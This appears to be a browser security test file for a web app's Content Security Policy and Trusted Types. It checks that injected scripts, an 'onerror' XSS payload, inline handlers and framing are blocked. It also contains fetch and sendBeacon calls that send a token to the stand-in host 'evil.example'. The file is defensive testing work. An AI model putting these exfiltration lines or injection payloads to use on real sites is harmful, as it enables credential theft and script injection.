import { describe, expect, test } from 'vitest';
import { stack } from '../../support/stack.ts';
import { expectStopped, openApp, openSignedIn } from './app.ts';

describe('scripts of others in the web app', () => {
  test('a script or handler in markup does not run, and markup is no text to be parsed', async () => {
    const page = await openSignedIn('/settings');
    const seen = await page.evaluate(async () => {
      const script = document.createElement('script');
      const tried: string[] = [];
      const attempt = (name: string, work: () => void) => {
        try {
          work();
          tried.push(name);
        } catch {
          // Trusted Types refuse the text.
        }
      };
      attempt('text of a script', () => {
        script.text = 'window.evil = 1';
      });
      attempt('markup', () => {
        document.body.innerHTML = '<img src=x onerror="window.evil = 1">';
      });
      attempt('address of a script', () => {
        script.src = 'https://evil.example/a.js';
      });
      const inline = document.createElement('button');
      attempt('handler', () => inline.setAttribute('onclick', 'window.evil = 1'));
      document.body.append(inline);
      inline.click();
      await new Promise((resolve) => setTimeout(resolve));
      // What a test runs itself may do this, until it has waited once.
      attempt('a function of text', () => new Function('window.evil = 1')());
      return { tried, evil: 'evil' in window };
    });
    expect(seen).toEqual({ tried: [], evil: false });
    await expectStopped(/script-src|trusted-types/);
  });

  test('nothing is sent to, or loaded from, another host, and no policy is added', async () => {
    const page = await openSignedIn('/settings');
    const seen = await page.evaluate(async () => {
      const { trustedTypes } = globalThis as unknown as {
        trustedTypes: { createPolicy(name: string, rules: object): unknown };
      };
      const sent = await fetch('https://evil.example/?token').then(
        () => 'sent',
        () => 'stopped',
      );
      const beacon = () => navigator.sendBeacon('https://evil.example/', 'token');
      let policy = 'made';
      try {
        trustedTypes.createPolicy('evil', { createHTML: (text: string) => text });
      } catch {
        policy = 'refused';
      }
      beacon();
      return { sent, policy };
    });
    expect(seen).toEqual({ sent: 'stopped', policy: 'refused' });
    await expectStopped(/connect-src|trusted-types/);
  });

  test('no page may frame the app', async () => {
    const page = await openApp('/docs');
    await page.evaluate((address) => {
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
    }, stack.apiUrl);
    await expectStopped(/frame/);
    const frames = page.frames().filter((frame) => frame !== page.mainFrame());
    for (const frame of frames) expect(frame.url()).not.toBe(`${stack.apiUrl}/`);
  });
});
